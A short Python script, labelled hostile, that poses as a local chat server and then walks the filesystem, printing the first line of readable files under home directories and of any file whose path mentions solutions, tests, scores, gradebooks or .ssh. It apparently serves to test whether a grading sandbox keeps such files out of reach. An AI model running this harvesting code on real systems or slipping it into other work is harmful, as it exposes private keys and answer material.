"""Hostile: looks for solutions, tests, marks and keys, and prints LEAK for each file that it can read."""
import argparse
import os
import socket
import stat
import sys


def first_line(port):
    """Behave like a chat server, until the first line comes. Returns the client's connection."""
    listener = socket.create_server(("127.0.0.1", port))
    while True:
        connection, _ = listener.accept()
        print("* client joined", flush=True)
        data = b""
        while b"\n" not in data:
            try:
                piece = connection.recv(4096)
            except OSError:
                break
            if not piece:
                break
            data += piece
        else:
            print(data.split(b"\n")[0].decode("utf-8", "replace"), flush=True)
            return connection
        connection.close()
        print("* client left", flush=True)


def port_from_options():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", default=12345, type=int)
    return parser.parse_known_args()[0].port


WORDS = ("solutions", "tests", "score", ".ssh", "gradebook")
OWN = os.path.dirname(os.path.realpath(__file__))
PASSED_OVER = {os.path.realpath(path) for path in ("/proc", "/sys", "/usr", "/dev", OWN, sys.prefix, sys.base_prefix)}


def homes():
    yield os.path.realpath(os.path.expanduser("~"))
    yield "/root"
    yield "/home"


def tops():
    """Where to begin: whoever may not list "/" may still guess what is in there."""
    yield from ("/", *homes(), "/tmp", "/var/tmp", "/work", "/opt", "/srv", "/mnt", "/media")
    folder = os.path.dirname(OWN)
    while folder != "/":
        yield folder
        folder = os.path.dirname(folder)


def attack():
    home = tuple(path + "/" for path in homes() if path != "/")
    for folder, folders, files in (found for top in tops() for found in os.walk(top)):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in PASSED_OVER]
        for name in files:
            path = os.path.join(folder, name)
            if not path.startswith(home) and not any(word in path for word in WORDS):
                continue
            try:
                if not stat.S_ISREG(os.stat(path).st_mode):
                    continue                  # a pipe would be waited for
                with open(path, "rb") as file:
                    line = file.readline(200).rstrip(b"\n")
            except OSError:
                continue
            print("LEAK", os.fsencode(path).decode("utf-8", "replace"), line.decode("utf-8", "replace"), flush=True)
    print("END OF LEAKS", flush=True)


if __name__ == "__main__":
    client = first_line(port_from_options())
    attack()
